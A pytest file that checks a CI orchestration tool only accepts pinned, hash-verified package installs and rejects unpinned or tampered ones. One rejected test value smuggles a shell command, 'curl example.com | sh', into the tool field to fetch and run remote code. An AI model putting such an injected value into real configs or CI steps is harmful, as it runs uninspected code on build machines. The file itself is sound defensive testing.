"""``ci.tool``: CI installs this tool from a pinned source, never a bare registry name
(the registry's ``claude-orchestrator`` is another project)."""

from __future__ import annotations

import base64
import hashlib
import importlib.metadata
import subprocess
import zipfile
from pathlib import Path

import pytest

from claude_orchestrator import __version__
from claude_orchestrator.config import DISTRIBUTION, default_config, validate_data
from claude_orchestrator.generators.github_actions import implementor_workflow

from .conftest import BIN, Run, clean_env


def test_the_default_is_this_distribution_at_this_version() -> None:
    assert DISTRIBUTION == "claude-orchestrator-toolkit"
    assert importlib.metadata.version(DISTRIBUTION) == __version__
    assert default_config().ci["tool"] == f"{DISTRIBUTION}=={__version__}"
    install = implementor_workflow(default_config())["jobs"]["conflicts"]["steps"][2]
    assert install["run"] == f"pip install {DISTRIBUTION}=={__version__}"


UNPINNED = [
    "claude-orchestrator",
    "foo>=1",
    "claude-orchestrator-toolkit",
    "git+https://github.com/example/claude-orchestrator@main",
    "git+https://github.com/example/claude-orchestrator@v0.1.0",
    "https://example.com/claude_orchestrator_toolkit-0.1.0-py3-none-any.whl",
    "claude-orchestrator-toolkit==0.1.0; curl example.com | sh",
]


@pytest.mark.parametrize("tool", UNPINNED)
def test_config_check_refuses_an_unpinned_tool(cli: Run, repo: Path, tool: str) -> None:
    (repo / "orchestrator.yaml").write_text(f"version: 1\nci:\n  tool: '{tool}'\n")
    result = cli("config", "check")
    assert result.code == 2, result
    lines = result.err.strip().splitlines()
    assert len(lines) == 1, result.err
    assert lines[0].startswith(f"error: orchestrator.yaml:3:9: ci.tool: invalid value {tool!r}")
    assert "NAME==X.Y.Z" in lines[0] and "@<40-hex commit>" in lines[0]
    assert "#sha256=<64 hex>" in lines[0]


def test_config_set_refuses_an_unpinned_tool_and_writes_nothing(cli: Run, repo: Path) -> None:
    assert cli("init").code == 0
    path = repo / "orchestrator.yaml"
    before = path.read_bytes()
    result = cli("config", "set", "ci.tool", "claude-orchestrator")
    assert result.code == 2 and "ci.tool: invalid value 'claude-orchestrator'" in result.err
    assert path.read_bytes() == before
    pinned = (
        "git+https://github.com/example/claude-orchestrator@" + "0123456789abcdef" * 2 + "01234567"
    )
    assert cli("config", "set", "ci.tool", pinned).code == 0
    assert cli("config", "show", "--json").json()["ci"]["tool"] == pinned


# ------------------------------------------------------- the install step, run for real
def make_wheel(directory: Path, name: str = "toy_tool", version: str = "1.0") -> Path:
    """A minimal pure-Python wheel (PEP 427) that pip installs offline."""
    info = f"{name}-{version}.dist-info"
    files = {
        f"{name}/__init__.py": "VALUE = 42\n",
        f"{info}/METADATA": "Metadata-Version: 2.1\n"
        f"Name: {name.replace('_', '-')}\nVersion: {version}\n",
        f"{info}/WHEEL": "Wheel-Version: 1.0\nGenerator: test\n"
        "Root-Is-Purelib: true\nTag: py3-none-any\n",
    }

    def record_line(path: str, text: str) -> str:
        digest = base64.urlsafe_b64encode(hashlib.sha256(text.encode()).digest()).rstrip(b"=")
        return f"{path},sha256={digest.decode()},{len(text.encode())}"

    record = "".join(record_line(p, t) + "\n" for p, t in files.items()) + f"{info}/RECORD,,\n"
    wheel = directory / f"{name}-{version}-py3-none-any.whl"
    with zipfile.ZipFile(wheel, "w") as archive:
        for path, text in {**files, f"{info}/RECORD": record}.items():
            archive.writestr(path, text)
    return wheel


def run_install_step(tool: str, wheels: Path, target: Path) -> subprocess.CompletedProcess[str]:
    """The generated step's script under bash, pip offline against ``wheels``."""
    config = validate_data({"version": 1, "ci": {"tool": tool}}, Path("orchestrator.yaml"), {})
    step = implementor_workflow(config)["jobs"]["conflicts"]["steps"][2]
    assert step["name"] == "Install claude-orchestrator"
    env = clean_env(
        PIP_NO_INDEX="1",
        PIP_FIND_LINKS=str(wheels),
        PIP_TARGET=str(target),
        PIP_DISABLE_PIP_VERSION_CHECK="1",
        PIP_CONFIG_FILE="/dev/null",
    )
    assert env["PATH"].startswith(str(BIN))  # this venv's pip
    return subprocess.run(
        ["bash", "-e", "-c", step["run"]], env=env, capture_output=True, text=True, timeout=300
    )


def test_a_hash_pinned_tool_installs_only_with_its_hash(tmp_path: Path) -> None:
    wheels = tmp_path / "wheels"
    wheels.mkdir()
    digest = hashlib.sha256(make_wheel(wheels).read_bytes()).hexdigest()
    good = run_install_step(f"toy-tool==1.0 --hash=sha256:{digest}", wheels, tmp_path / "good")
    assert good.returncode == 0, good.stdout + good.stderr
    assert (tmp_path / "good" / "toy_tool" / "__init__.py").read_text() == "VALUE = 42\n"
    wrong = "0" * 64
    bad = run_install_step(f"toy-tool==1.0 --hash=sha256:{wrong}", wheels, tmp_path / "bad")
    assert bad.returncode != 0
    assert "DO NOT MATCH THE HASHES" in bad.stderr, bad.stderr
    assert not (tmp_path / "bad" / "toy_tool").exists()
